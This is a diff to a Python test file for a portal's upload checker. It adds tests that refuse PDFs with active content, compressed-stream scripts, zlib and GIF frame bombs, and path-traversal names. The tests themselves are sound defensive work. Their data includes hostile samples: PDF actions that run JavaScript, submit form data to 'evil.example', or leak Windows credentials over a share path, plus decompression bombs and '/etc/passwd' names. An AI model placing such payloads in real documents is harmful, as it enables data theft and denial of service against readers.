@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import io
+import zlib
 
 import pytest
 from PIL import ExifTags, Image
@@ -23,8 +24,12 @@ from tests.portal.attachment_files import (
     POLYGLOT_GIF,
     SVG,
     animated_gif,
+    gif_frame_bomb,
     image_bytes,
+    jpeg_with_a_second_picture,
     jpeg_with_gps,
+    pdf_hiding_a_script_in_an_object_stream,
+    pdf_with,
 )
 
 MB = 1024 * 1024
@@ -43,9 +48,44 @@ def test_images_are_known_by_their_bytes_whatever_their_name(fmt, content_type):
     assert Image.open(io.BytesIO(checked.preview)).format == "WEBP"
 
 
+def test_a_phone_photo_with_a_second_picture_is_a_jpeg_and_keeps_only_the_photo():
+    checked = check(jpeg_with_a_second_picture(), name="damage.jpg")
+    assert (checked.kind, checked.content_type, (checked.width, checked.height)) == ("image", "image/jpeg", (64, 48))
+    kept = Image.open(io.BytesIO(checked.data))
+    assert kept.format == "JPEG" and getattr(kept, "n_frames", 1) == 1
+
+
 def test_a_pdf_is_known_by_its_header_and_trailer():
     checked = check(PDF, name="receipt.png")
     assert (checked.kind, checked.content_type, checked.data, checked.preview) == ("pdf", "application/pdf", PDF, None)
+
+
+@pytest.mark.parametrize("extra", [
+    b"/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>",  # names written with #xx escapes
+    b"/Names << /#45mbeddedFiles 5 0 R >>",
+    b"/OpenAction << /S /SubmitForm /F (https://evil.example/collect) >>",
+    b"/AA << /O << /S /ImportData /F (x.fdf) >> >>",
+    b"/OpenAction << /S /GoToR /F (//evil.example/share/x.pdf) >>",  # leaks the reader's Windows login
+])
+def test_a_pdf_with_active_content_is_refused_however_it_is_spelled(extra):
+    with pytest.raises(UnsupportedType):
+        check(pdf_with(extra), name="statement.pdf")
+
+
+def test_a_pdf_cannot_hide_a_script_in_a_compressed_object_stream():
+    with pytest.raises(UnsupportedType):
+        check(pdf_hiding_a_script_in_an_object_stream(), name="statement.pdf")
+    encrypted = pdf_hiding_a_script_in_an_object_stream().replace(b"trailer <<", b"trailer << /Encrypt 9 0 R")
+    with pytest.raises(UnsupportedType):  # its object streams are encrypted: unreadable to us, refused
+        check(encrypted, name="statement.pdf")
+
+
+def test_a_pdf_with_compressed_pages_is_kept_and_a_compression_bomb_is_not():
+    page = zlib.compress(b"BT /F1 12 Tf 72 712 Td (Refund of order BN-1048231 / JS) Tj ET")
+    assert check(pdf_with(b"/OpenAction [3 0 R /Fit]", (page,)), name="ok.pdf").kind == "pdf"
+    bomb = zlib.compress(b"\0" * (300 * MB), 9)  # 300 KB that inflate to 300 MB
+    with pytest.raises(TooLarge):
+        check(pdf_with(streams=(bomb,)), name="bomb.pdf")
 
 
 @pytest.mark.parametrize("data", [HTML, SVG, POLYGLOT_GIF, b"%PDF-1.4 but never finished", PDF_WITH_SCRIPT,
@@ -86,6 +126,15 @@ def test_empty_and_oversized_files_are_refused():
     assert big.value.status == 413
     with pytest.raises(TooLarge):  # a small file that decodes to a huge picture (a decompression bomb)
         check(image_bytes("PNG", size=(4000, 4000)), max_pixels=1_000_000)
+
+
+def test_an_animation_counts_the_pixels_of_every_frame():
+    bomb = gif_frame_bomb(size=(400, 400), frames=100)  # 3 KB, 16 million pixels to decode and encode
+    assert len(bomb) < 4096
+    with pytest.raises(TooLarge) as refused:
+        check(bomb, name="bomb.gif", max_pixels=1_000_000)
+    assert "frames" in str(refused.value)
+    assert check(bomb, max_pixels=20_000_000).content_type == "image/gif"  # within the limit: accepted
 
 
 @pytest.mark.parametrize("name", ["../../x.png", "..\\..\\x.png", "/etc/passwd", "a/b.png", "x.png\x00.html",
